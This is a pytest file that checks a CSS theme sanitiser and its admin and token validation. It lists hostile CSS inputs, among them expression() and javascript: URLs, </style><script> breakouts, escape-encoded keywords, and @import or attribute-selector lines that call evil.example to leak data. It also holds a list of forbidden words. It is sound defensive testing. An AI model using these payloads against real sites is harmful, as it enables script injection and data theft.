"""Hostile theme CSS: the sanitiser (themes/sanitiser.py) refuses anything
that could run script, load a resource, end the hub's <style> element or
hide a forbidden word behind an escape; the admin refuses such a theme with
the reason; token values cannot carry it either. (Where allowed CSS applies
is test_theme_frame.py.)"""

from __future__ import annotations

import pytest

from themes.models import CustomTheme
from themes.sanitiser import sanitise_css
from themes.validation import ThemeError, build_theme_data

HOSTILE = [
    # script
    ".w{width:expression(alert(1))}",
    ".w{width:EXPRESSION (alert(1))}",
    ".w{background:url(javascript:alert(1))}",
    ".w{background:url('javascript:alert(1)')}",
    ".w{background-image:url(\"data:text/html,<script>alert(1)</script>\")}",
    ".w{behavior:url(x.htc)}",
    ".w{behaviour:url(x.htc)}",
    ".w{-moz-binding:url(x.xml#xss)}",
    ".w{color:red;-moz-binding:url(//evil.example/x)}",
    ".w{background:vbscript:msgbox(1)}",
    # loading things
    "@import url(https://evil.example/x.css);",
    "@import 'https://evil.example/x.css';",
    "@IMPORT 'x.css';",
    "@media screen{@import 'x.css';}",
    ".w{background:image-set('x.png' 1x)}",
    "@font-face{font-family:x;src(https://evil.example/f.woff)}",
    "a[href^=\"https://bank\"]{background:url(https://evil.example/?leak)}",
    # ending the element or the declaration
    "</style><script>alert(1)</script>",
    ".w{color:red}</style><img src=x onerror=alert(1)>",
    ".w{font-family:'</style>'}",
    "<!--",
    # escapes that spell forbidden words
    ".w{background:\\75rl(javascript:alert(1))}",
    ".w{background:u\\72l(https://evil.example)}",
    "@\\69mport 'x.css';",
    ".w{width:\\65xpression(alert(1))}",
    ".w{-\\6doz-binding:url(x)}",
    ".w{content:'\\3c/style\\3e'}",
    # control characters that parsers disagree on
    ".w{color:red\x00;background:url(x)}",
    ".w{color:re\x0bd}",
]


@pytest.mark.parametrize("css", HOSTILE)
def test_the_sanitiser_refuses_hostile_css(css):
    result = sanitise_css(css)
    assert not result.ok, css
    out = result.css.lower()
    for word in ("expression", "javascript", "url(", "@import", "behavio", "binding",
                 "<", "\\", "vbscript", "image-set", "src(", "\x00"):
        assert word not in out, (css, result.css)


def test_comments_and_strings_do_not_smuggle_anything():
    for css in (".w{color:red}/* */@import 'x.css';", ".w{font-family:'url(x)'}",
                ".w/**/{color:red;/* url(javascript:x) */}",
                ".w{font-family:\"a\\\" ; } body{display:none}\"}"):
        result = sanitise_css(css)
        assert "url(" not in result.css and "@import" not in result.css, css
        assert "\\" not in result.css, css


def test_the_admin_refuses_a_theme_with_hostile_css(client, organisations, user_in):
    client.force_login(user_in(username="root", superuser=True))
    theme = CustomTheme(name="evil", label="Evil", organisation=organisations["kul"],
                        custom_css=".w{background:url(javascript:alert(1))}")
    with pytest.raises(Exception) as error:
        theme.full_clean()
    assert "url" in str(error.value)


@pytest.mark.parametrize("value", ["red;} body{display:none", "url(x)", "</style>",
                                   "expression(alert(1))", "#fff\\3b", "@import 'x'"])
def test_token_values_cannot_carry_css(value):
    data = {"name": "tokens", "label": "Tokens", "tokens": {"plugin-colour": value}}
    with pytest.raises(ThemeError):
        build_theme_data(data)
